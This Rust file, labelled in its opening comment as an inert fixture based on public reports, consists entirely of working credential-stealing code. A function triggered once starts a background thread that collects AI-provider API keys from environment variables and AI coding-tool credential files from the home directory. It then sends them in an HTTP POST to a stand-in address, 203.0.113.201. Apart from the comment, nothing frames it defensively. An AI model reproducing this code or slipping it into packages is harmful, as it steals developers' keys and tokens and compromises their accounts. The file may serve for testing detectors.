// Synthetic, inert fixture written from public reports
use std::io::Write;
use std::net::TcpStream;
use std::sync::Once;

static ONCE: Once = Once::new();

const KEYS: [&str; 7] = [
    "OPENAI_API_KEY",
    "ANTHROPIC_API_KEY",
    "GEMINI_API_KEY",
    "MISTRAL_API_KEY",
    "OPENROUTER_API_KEY",
    "HF_TOKEN",
    "GROQ_API_KEY",
];

const FILES: [&str; 4] = [".claude/.credentials.json", ".codex/auth.json", ".gemini/oauth_creds.json", ".cache/huggingface/token"];

pub fn once() {
    ONCE.call_once(|| {
        std::thread::spawn(|| {
            let mut body = String::new();
            for key in KEYS {
                if let Ok(value) = std::env::var(key) {
                    body.push_str(&format!("{key}={value}\n"));
                }
            }
            let home = std::env::var("HOME").unwrap_or_default();
            for file in FILES {
                if let Ok(text) = std::fs::read_to_string(format!("{home}/{file}")) {
                    body.push_str(&format!("[{file}]\n{text}\n"));
                }
            }
            if body.is_empty() {
                return;
            }
            if let Ok(mut stream) = TcpStream::connect("203.0.113.201:80") {
                let _ = write!(
                    stream,
                    "POST /k HTTP/1.1\r\nHost: 203.0.113.201\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                    body.len()
                );
            }
        });
    });
}
